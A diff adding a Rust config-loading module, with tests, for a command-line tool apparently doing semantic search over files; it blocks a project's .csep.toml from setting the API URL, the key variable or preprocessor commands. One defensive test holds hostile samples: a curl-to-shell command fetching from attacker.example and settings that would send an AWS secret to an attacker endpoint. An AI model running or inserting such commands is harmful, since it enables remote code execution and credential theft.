@@ -0,0 +1,394 @@
+use std::{
+    collections::{BTreeMap, HashMap},
+    env, fs,
+    path::{Path, PathBuf},
+};
+
+use anyhow::{Context, Result};
+use serde::Deserialize;
+
+use crate::{args::OutputFormat, chunker::Sizer};
+
+/// Name of the project config file, looked for in the current directory
+/// and every directory above it
+pub const PROJECT_CONFIG_FILE: &str = ".csep.toml";
+
+/// Settings only the user's config file may set. A project's .csep.toml
+/// comes with whatever was checked out, and these choose where API keys
+/// are sent and which commands are run.
+const USER_ONLY_KEYS: &[&str] = &["openai.url", "openai.api_key_env", "preprocessors"];
+
+/// Settings read from the user's config file and the project's
+/// .csep.toml, the project's settings take precedence
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// Client to use when --client is not given
+    pub client: Option<String>,
+    /// Model to use when --model is not given
+    pub model: Option<String>,
+    /// Similarity floor to use when --floor is not given
+    pub floor: Option<f32>,
+    /// Number of results to print when --top is not given
+    pub top: Option<usize>,
+    /// Output format to use when --format is not given
+    pub format: Option<OutputFormat>,
+    /// Only search files under a directory that match one of these globs
+    pub include: Vec<String>,
+    /// Never search files under a directory that match one of these globs
+    pub exclude: Vec<String>,
+    pub ollama: OllamaConfig,
+    pub openai: OpenAiConfig,
+    pub fastembed: FastEmbedConfig,
+    pub chunking: ChunkingConfig,
+    pub ann: AnnConfig,
+    /// Commands by extension that print the text of a file given as their
+    /// last argument, like `docx = "pandoc --to plain"`. Only read from the
+    /// user's config file.
+    pub preprocessors: BTreeMap<String, String>,
+    /// Every setting that was read from a file by its dotted key, like
+    /// `ollama.url`, along with its value and the file it came from
+    #[serde(skip)]
+    pub sources: BTreeMap<String, (toml::Value, PathBuf)>,
+}
+
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct OllamaConfig {
+    /// Base URL of the Ollama server
+    pub url: Option<String>,
+    /// Request timeout in seconds
+    pub timeout: Option<u64>,
+    /// How many times to retry a request that failed with a connection
+    /// error or a server error
+    pub retries: Option<u32>,
+    /// How many texts to send in a single request to /api/embed
+    pub batch_size: Option<usize>,
+    /// How many requests may be in flight at the same time
+    pub concurrency: Option<usize>,
+}
+
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct OpenAiConfig {
+    /// Base URL of the API, including the /v1 prefix
+    pub url: Option<String>,
+    /// Model to use when --model is not given
+    pub model: Option<String>,
+    /// Environment variable holding the API key, OPENAI_API_KEY by default
+    pub api_key_env: Option<String>,
+    /// Ask the model for embeddings with this many dimensions, only some
+    /// models support this
+    pub dimensions: Option<usize>,
+    /// Request timeout in seconds
+    pub timeout: Option<u64>,
+    /// How many times to retry a request that failed with a connection
+    /// error or a server error
+    pub retries: Option<u32>,
+    /// How many texts to send in a single request
+    pub batch_size: Option<usize>,
+    /// How many requests may be in flight at the same time
+    pub concurrency: Option<usize>,
+}
+
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct FastEmbedConfig {
+    /// Directory holding a local ONNX model and its tokenizer files, used
+    /// instead of the models fastembed downloads
+    pub model_path: Option<PathBuf>,
+    /// How the token embeddings of a local model are pooled, mean or cls
+    pub pooling: Option<String>,
+    /// Maximum number of tokens a local model accepts
+    pub max_length: Option<usize>,
+}
+
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct ChunkingConfig {
+    /// Maximum size of a chunk
+    pub tokens: Option<usize>,
+    /// How much neighbouring chunks overlap
+    pub overlap: Option<usize>,
+    /// What chunks are measured in, characters, cl100k or model
+    pub sizer: Option<Sizer>,
+    /// Settings for files with a given extension, taking precedence over
+    /// the ones above
+    pub extensions: HashMap<String, ChunkingOverride>,
+}
+
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct ChunkingOverride {
+    pub tokens: Option<usize>,
+    pub overlap: Option<usize>,
+    pub sizer: Option<Sizer>,
+}
+
+#[derive(Deserialize, Default, Debug)]
+#[serde(default, deny_unknown_fields)]
+pub struct AnnConfig {
+    /// Search big indexes with the nearest neighbour graph when --ann is
+    /// not given
+    pub enabled: Option<bool>,
+    /// Links of every chunk in the graph
+    pub m: Option<usize>,
+    /// Candidates looked at when building the graph
+    pub ef_construction: Option<usize>,
+    /// Candidates looked at by searches
+    pub ef: Option<usize>,
+}
+
+/// Path of the user's config file, $XDG_CONFIG_HOME/csep/config.toml or
+/// ~/.config/csep/config.toml
+pub fn get_config_path() -> Option<PathBuf> {
+    let config_dir = match env::var_os("XDG_CONFIG_HOME") {
+        Some(dir) if !dir.is_empty() => PathBuf::from(dir),
+        _ => dirs::home_dir()?.join(".config"),
+    };
+    Some(config_dir.join("csep").join("config.toml"))
+}
+
+/// Path of the closest .csep.toml in a directory or any of the directories
+/// above it
+pub fn find_project_config(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+/// Remove a setting from a table by its dotted key, true if it was set
+fn remove_key(table: &mut toml::Table, dotted: &str) -> bool {
+    match dotted.split_once('.') {
+        Some((key, rest)) => table
+            .get_mut(key)
+            .and_then(toml::Value::as_table_mut)
+            .is_some_and(|table| remove_key(table, rest)),
+        None => table.remove(dotted).is_some(),
+    }
+}
+
+/// Copy the settings of a file over the ones read so far, tables are
+/// merged key by key and anything else is replaced
+fn merge(
+    base: &mut toml::Table,
+    layer: toml::Table,
+    prefix: &str,
+    path: &Path,
+    sources: &mut BTreeMap<String, (toml::Value, PathBuf)>,
+) {
+    for (key, value) in layer {
+        let dotted = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{}.{}", prefix, key)
+        };
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(layer)) => {
+                merge(base, layer, &dotted, path, sources)
+            }
+            (_, toml::Value::Table(layer)) => {
+                let mut table = toml::Table::new();
+                merge(&mut table, layer, &dotted, path, sources);
+                base.insert(key, toml::Value::Table(table));
+            }
+            (_, value) => {
+                sources.insert(dotted, (value.clone(), path.to_path_buf()));
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+impl Config {
+    /// Load the user's config file and the project's .csep.toml, missing
+    /// files are the same as empty ones
+    pub fn load() -> Result<Self> {
+        let mut paths: Vec<PathBuf> = get_config_path().into_iter().collect();
+        if let Some(project) = find_project_config(&env::current_dir()?) {
+            paths.push(project);
+        }
+
+        let mut files = Vec::new();
+        for path in paths {
+            if path.is_file() && !files.iter().any(|(other, _)| *other == path) {
+                let text = fs::read_to_string(&path)?;
+                files.push((path, text));
+            }
+        }
+        Self::from_files(&files)
+    }
+
+    /// Merge config files, later files take precedence over earlier ones.
+    /// Project files can't set any of USER_ONLY_KEYS, they are ignored.
+    fn from_files(files: &[(PathBuf, String)]) -> Result<Self> {
+        let mut merged = toml::Table::new();
+        let mut sources = BTreeMap::new();
+        for (path, text) in files {
+            // Check each file on its own so errors name the file they are in
+            Self::parse(text).with_context(|| format!("Invalid config file {}", path.display()))?;
+            let mut table: toml::Table = text.parse()?;
+            if path.file_name().is_some_and(|name| name == PROJECT_CONFIG_FILE) {
+                for key in USER_ONLY_KEYS {
+                    if remove_key(&mut table, key) {
+                        eprintln!(
+                            "Ignoring {} in {}, it is only read from the user config file",
+                            key,
+                            path.display()
+                        );
+                    }
+                }
+            }
+            merge(&mut merged, table, "", path, &mut sources);
+        }
+
+        let mut config: Config = merged.try_into()?;
+        config.sources = sources;
+        Ok(config)
+    }
+
+    fn parse(text: &str) -> Result<Self> {
+        let config: Config = toml::from_str(text)?;
+        if config.openai.dimensions == Some(0) {
+            return Err(anyhow::anyhow!("openai.dimensions must be at least 1"));
+        }
+        Ok(config)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse() {
+        let config = Config::parse(
+            r#"
+            [ollama]
+            url = "http://gpu-box:11434"
+            timeout = 30
+
+            [openai]
+            url = "http://localhost:8080/v1"
+            dimensions = 512
+
+            [fastembed]
+            model_path = "/opt/models/fine-tuned"
+            pooling = "cls"
+
+            [chunking]
+            tokens = 200
+            overlap = 20
+
+            [chunking.extensions.md]
+            tokens = 400
+            sizer = "characters"
+
+            [preprocessors]
+            doc = "antiword"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(config.ollama.url.as_deref(), Some("http://gpu-box:11434"));
+        assert_eq!(config.ollama.timeout, Some(30));
+        assert_eq!(config.ollama.retries, None);
+        assert_eq!(config.openai.url.as_deref(), Some("http://localhost:8080/v1"));
+        assert_eq!(config.openai.dimensions, Some(512));
+        assert_eq!(
+            config.fastembed.model_path,
+            Some(PathBuf::from("/opt/models/fine-tuned"))
+        );
+        assert_eq!(config.fastembed.pooling.as_deref(), Some("cls"));
+        assert_eq!(config.chunking.tokens, Some(200));
+        assert_eq!(config.chunking.extensions["md"].sizer, Some(Sizer::Characters));
+        assert_eq!(config.preprocessors["doc"], "antiword");
+
+        let empty = Config::parse("").unwrap();
+        assert!(empty.ollama.url.is_none());
+
+        assert!(Config::parse("[ollama]\nurl = 11434").is_err());
+        assert!(Config::parse("[olama]\nurl = \"http://localhost\"").is_err());
+        assert!(Config::parse("[openai]\ndimensions = 0").is_err());
+    }
+
+    #[test]
+    fn test_project_overrides_user() {
+        let user = PathBuf::from("/home/me/.config/csep/config.toml");
+        let project = PathBuf::from("/src/app/.csep.toml");
+        let config = Config::from_files(&[
+            (
+                user.clone(),
+                "client = \"ollama\"\nfloor = 0.3\n[ollama]\nurl = \"http://gpu-box:11434\"\ntimeout = 30\n".to_string(),
+            ),
+            (
+                project.clone(),
+                "floor = 0.5\nformat = \"vimgrep\"\nexclude = [\"*.lock\"]\n[ollama]\ntimeout = 60\n[chunking.extensions.md]\ntokens = 400\n".to_string(),
+            ),
+        ])
+        .unwrap();
+
+        assert_eq!(config.client.as_deref(), Some("ollama"));
+        assert_eq!(config.floor, Some(0.5));
+        assert_eq!(config.format, Some(OutputFormat::Vimgrep));
+        assert_eq!(config.exclude, vec!["*.lock"]);
+        assert_eq!(config.ollama.url.as_deref(), Some("http://gpu-box:11434"));
+        assert_eq!(config.ollama.timeout, Some(60));
+        assert_eq!(config.chunking.extensions["md"].tokens, Some(400));
+
+        assert_eq!(config.sources["client"].1, user);
+        assert_eq!(config.sources["floor"].1, project);
+        assert_eq!(config.sources["ollama.url"].1, user);
+        assert_eq!(config.sources["ollama.timeout"].1, project);
+        assert_eq!(config.sources["chunking.extensions.md.tokens"].1, project);
+
+        let err = Config::from_files(&[(project.clone(), "flor = 0.5".to_string())]).unwrap_err();
+        assert!(format!("{:#}", err).contains(".csep.toml"));
+    }
+
+    #[test]
+    fn test_project_cannot_set_user_only_keys() {
+        let user = PathBuf::from("/home/me/.config/csep/config.toml");
+        let project = PathBuf::from("/src/app/.csep.toml");
+        let settings = [
+            "[openai]\nurl = \"http://attacker.example/v1\"",
+            "[openai]\napi_key_env = \"AWS_SECRET_ACCESS_KEY\"",
+            "[preprocessors]\ntxt = \"sh -c 'curl attacker.example | sh'\"",
+        ];
+        assert_eq!(settings.len(), USER_ONLY_KEYS.len());
+        for (setting, key) in settings.iter().zip(USER_ONLY_KEYS) {
+            let config = Config::from_files(&[(project.clone(), setting.to_string())]).unwrap();
+            assert!(!config.sources.keys().any(|source| source.starts_with(key)));
+
+            // The user's own file can set all of them
+            let config = Config::from_files(&[(user.clone(), setting.to_string())]).unwrap();
+            assert!(config.sources.keys().any(|source| source.starts_with(key)));
+        }
+
+        // The rest of the project file still applies
+        let config = Config::from_files(&[(
+            project,
+            "client = \"ollama\"\n[ollama]\nurl = \"http://gpu-box:11434\"\n\
+             [openai]\nurl = \"http://attacker.example/v1\"\ndimensions = 512"
+                .to_string(),
+        )])
+        .unwrap();
+        assert_eq!(config.client.as_deref(), Some("ollama"));
+        assert_eq!(config.ollama.url.as_deref(), Some("http://gpu-box:11434"));
+        assert_eq!(config.openai.url, None);
+        assert_eq!(config.openai.dimensions, Some(512));
+    }
+
+    #[test]
+    fn test_find_project_config() {
+        let root = tempfile::tempdir().unwrap();
+        let nested = root.path().join("src").join("feature");
+        fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_config(&nested), None);
+
+        fs::write(root.path().join(PROJECT_CONFIG_FILE), "top = 5").unwrap();
+        assert_eq!(
+            find_project_config(&nested),
+            Some(root.path().join(PROJECT_CONFIG_FILE))
+        );
+    }
+}